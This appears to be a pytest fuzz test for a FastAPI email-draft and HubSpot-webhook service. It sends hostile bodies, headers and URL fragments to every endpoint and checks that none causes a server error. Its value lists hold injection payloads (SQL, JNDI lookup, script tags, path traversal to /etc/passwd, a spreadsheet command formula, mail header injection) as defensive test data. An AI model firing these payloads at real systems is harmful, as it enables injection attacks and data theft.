"""Hostile bodies through every endpoint that takes one: refused or taken, but never a 500."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

from fastapi import FastAPI
from httpx2 import AsyncClient

TEXTS: tuple[str, ...] = (
    "", " ", "\x00", "a\x00b", "\ud800", "\udfff\ud800", "a\r\nBcc: evil@x.example", "\x1b[31mred", "\u202eevil",
    "\U000e0041\U000e0042", "\ufeff", "\u2028", "x" * 200_000, "💥" * 20_000, "{{7*7}}", "${jndi:ldap://x}",
    "<script>alert(1)</script>", "'; DROP TABLE drafts; --", "%s%n%x", "../../etc/passwd", "=cmd|' /C calc'!A0",
    "a@b.example\r\nRCPT TO:<c@d.example>", "a@b.example,c@d.example", "\"a b\"@c.example", "a@[127.0.0.1]", "@",
    "ä@ö.example", "a@" + "b" * 300 + ".example", "a" * 65 + "@b.example", "=?utf-8?q?hi=0ABcc:_e=40x.y?=")
VALUES: tuple[Any, ...] = (
    None, True, False, 0, -1, 2**31, 2**63, 10**300, 1.5, -0.0, 1e308, [], [[]], {}, {"a": {"b": []}}, [None] * 1000,
    {"": ""}, {"__proto__": {}}, {"$ne": None})
RAW: tuple[bytes, ...] = (
    b"", b" ", b"null", b"true", b"0", b'""', b"[]", b"{}", b"{", b"}", b"[" * 100_000, b'{"a":' * 40_000,
    b"9" * 5_000, b"-", b"NaN", b"Infinity", b"\xff\xfe", b"\x00" * 100, b"\xef\xbb\xbf{}", b"\xed\xa0\x80",
    b'{"a":1,"a":2}', b'"\\ud800"', b"'single'", b"a=1&b=2", b"<xml/>", b"\x1f\x8b\x08\x00", b'{"body": 1e999}',
    b'{"subject": "\\u0000"}', b'{"version": 1' + b"0" * 4_400 + b"}", b"[" + b"1," * 60_000 + b"1]",
    json.dumps({f"k{n}": n for n in range(10_000)}).encode())
HEADERS: tuple[dict[str, str], ...] = (
    {"content-type": "text/plain"}, {"content-type": ""}, {"content-type": "application/json; charset=\x80"},
    {"content-type": "application/json; charset=utf-7"}, {"content-type": "multipart/form-data"},
    {"content-encoding": "gzip"}, {"transfer-encoding": "chunked"}, {"x-forwarded-host": "evil.example"},
    {"host": "evil.example\x80"}, {"x-http-method-override": "DELETE"}, {"accept": "\xff"}, {"cookie": "a=\x01"},
    {"x-hubspot-signature-v3": "\xff"}, {"x-request-id": "\xff" * 200}, {"expect": "100-continue"})
FIELDS = ("recipient", "subject", "body", "version", "content_hash", "reason", "notes", "portalId", "formId",
          "formSubmissionId", "timestamp", "fieldValues", "vid", "properties", "subscriptionType", "objectId")
SOUND: dict[str, Any] = {
    "/api/operator/drafts": {"recipient": "a@b.example", "subject": "s", "body": "b"},
    "/api/operator/drafts/{draft_id}": {"subject": "s", "version": 1},
    "/api/webhooks/hubspot/form-submission": {
        "portalId": 1, "formId": "f", "formSubmissionId": "s", "timestamp": 1764000000000,
        "fieldValues": [{"name": "email", "value": "a@b.example"}]},
    "/api/webhooks/hubspot/workflow": {"vid": 1, "properties": {"email": {"value": "a@b.example"}}},
    "/api/webhooks/hubspot/events": [{"eventId": 1, "portalId": 1, "objectId": 2, "occurredAt": 1764000000000,
                                      "subscriptionType": "contact.creation"}],
}
JSON = {"content-type": "application/json"}
Request = tuple[bytes, dict[str, str]]


def hostile(path: str) -> Iterator[Request]:
    """Raw garbage, then one field spoilt at a time, then sound bodies under hostile headers."""
    yield from ((raw, JSON) for raw in RAW)
    sound = SOUND.get(path, {"reason": "r", "notes": "n"})
    for value in (*TEXTS, *VALUES):
        yield json.dumps(value).encode(), JSON
        for spoilt in _spoilt(sound, value):
            yield json.dumps(spoilt).encode()[:262_144], JSON
    yield from ((json.dumps(sound).encode(), {**JSON, **headers}) for headers in HEADERS)


def _spoilt(sound: Any, value: Any) -> Iterator[Any]:
    if isinstance(sound, list):
        yield from ([each] for each in _spoilt(sound[0], value))
        return
    for field in FIELDS:
        if field in sound or len(sound) <= 2:
            yield {**sound, field: value}
    for nested in ("fieldValues", "properties"):
        if nested in sound:
            yield {**sound, nested: [{"name": "email", "value": value}]}
            yield {**sound, nested: {"email": {"value": value}}}
    if isinstance(value, str):
        yield {**sound, value: "a key can be hostile too"}


def endpoints(app: FastAPI) -> list[tuple[str, str]]:
    """Every route that takes a body, the webhooks included."""
    documented = [(method.upper(), path) for path, item in app.openapi()["paths"].items() for method in item]
    webhooks = [("POST", path) for route in app.routes if (path := getattr(route, "path", "")) in SOUND]
    return sorted({each for each in (*documented, *webhooks) if each[0] in ("POST", "PATCH")})


async def test_hostile_bodies_never_break_anything(
        app: FastAPI, app_client: AsyncClient, add_draft: Callable[..., Any]) -> None:
    draft_id, tried, broken = await add_draft(), 0, []
    targets = endpoints(app)
    assert {"/api/webhooks/hubspot/form-submission", "/api/operator/drafts"} <= {path for _, path in targets}
    for method, path in targets:
        url = path.replace("{draft_id}", draft_id).replace("{failed_task_id}", "f1")
        requests = list(hostile(path))
        assert len(requests) >= 200
        for body, headers in requests:
            encoded = [(name.encode(), value.encode("latin-1")) for name, value in headers.items()]
            response = await app_client.request(method, url, content=body, headers=encoded)
            tried += 1
            if response.status_code >= 500:
                broken.append((response.status_code, method, path, body[:80], headers))
    assert not broken
    assert tried >= 200 * len(targets)
    assert (await app_client.get(f"/api/operator/drafts/{draft_id}")).json()["recipient"] == "lead@acme.example"


async def test_hostile_addresses_and_queries_never_break_anything(app: FastAPI, app_client: AsyncClient) -> None:
    parts = ("%00", "%ff%fe", "%ED%A0%80", "..%2f..%2f", "%0d%0aX:%20y", "x" * 5000, "%F0%9F%92%A5",
             "a@b.example%00", "'")
    paths = [path for path in app.openapi()["paths"] if "{" in path]
    for path in paths:
        for part in parts:
            url = path.partition("{")[0] + part + path.partition("}")[2]
            for method in ("GET", "POST", "PATCH", "PUT", "DELETE", "OPTIONS", "HEAD"):
                assert (await app_client.request(method, url)).status_code < 500, (method, url[:80])
    for part in parts:
        for name in ("q", "status", "limit", "offset", "%00"):
            for path in ("/api/operator/drafts", "/api/operator/drafts/pending", "/api/async/failed-tasks"):
                assert (await app_client.get(f"{path}?{name}={part}")).status_code < 500, (path, name, part[:80])
